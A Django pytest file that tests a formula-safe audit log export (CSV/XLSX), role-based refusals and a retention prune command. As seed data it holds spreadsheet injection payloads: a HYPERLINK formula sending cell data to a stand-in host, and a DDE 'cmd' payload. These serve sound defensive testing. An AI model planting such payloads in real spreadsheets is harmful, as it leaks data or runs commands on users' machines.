"""Audit export for administrators (CSV/XLSX, filters applied, formula-safe, itself audited) and
the retention command (issue 16, item 11)."""

import csv
import datetime as dt
import io

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from tumbuh.accounts.models import Role
from tumbuh.accounts.testing import build_world
from tumbuh.audit.models import AuditEvent
from tumbuh.audit.services import record

pytestmark = pytest.mark.django_db


@pytest.fixture
def world():
    return build_world(with_measurements=False)


def test_admin_exports_csv_with_filters_and_inert_formulas(client, world):
    record(None, AuditEvent.Action.LOGIN_FAILED, username='=HYPERLINK("http://x/?"&A1,"klik")',
           summary='=HYPERLINK("http://x/?"&A1,"klik")')
    record(world.users[Role.DESA], AuditEvent.Action.VIEW_LIST, object_type="registry.person")
    client.force_login(world.users[Role.ADMIN])
    answer = client.get(reverse("audit:export"), {"action": "login_failed"})
    assert answer.status_code == 200 and answer["Content-Type"].startswith("text/csv")
    assert "no-store" in answer["Cache-Control"]
    rows = list(csv.reader(io.StringIO(b"".join(answer.streaming_content).decode())))
    assert rows[0][:3] == ["at", "username", "action"]
    assert {r[2] for r in rows[1:]} == {"login_failed"}
    assert all(not cell.startswith("=") for r in rows for cell in r)
    assert AuditEvent.objects.filter(action=AuditEvent.Action.EXPORT, object_type="audit.auditevent").exists()


def test_admin_exports_xlsx(client, world):
    record(None, AuditEvent.Action.LOGIN_FAILED, username="+cmd|' /C calc'!A0")
    client.force_login(world.users[Role.ADMIN])
    answer = client.get(reverse("audit:export"), {"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(answer.content)).active
    values = [c.value for row in sheet.iter_rows() for c in row if c.value]
    assert "+cmd|' /C calc'!A0" not in values and "'+cmd|' /C calc'!A0" in values
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


@pytest.mark.parametrize("role", [Role.PROVINSI, Role.KABUPATEN, Role.CADRE])
def test_other_roles_are_refused_the_export(client, world, role):
    client.force_login(world.users[role])
    assert client.get(reverse("audit:export")).status_code == 403
    assert AuditEvent.objects.filter(action=AuditEvent.Action.DENIED, user=world.users[role]).exists()


def test_prune_deletes_only_events_past_retention(world, settings):
    settings.AUDIT_RETENTION_DAYS = 30
    old = record(None, AuditEvent.Action.LOGIN_FAILED, username="old")
    AuditEvent.objects.filter(pk=old.pk).update(at=timezone.now() - dt.timedelta(days=31))
    recent = record(None, AuditEvent.Action.LOGIN_FAILED, username="recent")
    call_command("prune_audit", "--dry-run")
    assert AuditEvent.objects.filter(pk=old.pk).exists()
    call_command("prune_audit")
    assert not AuditEvent.objects.filter(pk=old.pk).exists()
    assert AuditEvent.objects.filter(pk=recent.pk).exists()
    assert AuditEvent.objects.filter(action=AuditEvent.Action.DELETE, object_type="audit.auditevent").exists()
    settings.AUDIT_RETENTION_DAYS = 0
    AuditEvent.objects.filter(pk=recent.pk).update(at=timezone.now() - dt.timedelta(days=4000))
    call_command("prune_audit")
    assert AuditEvent.objects.filter(pk=recent.pk).exists()
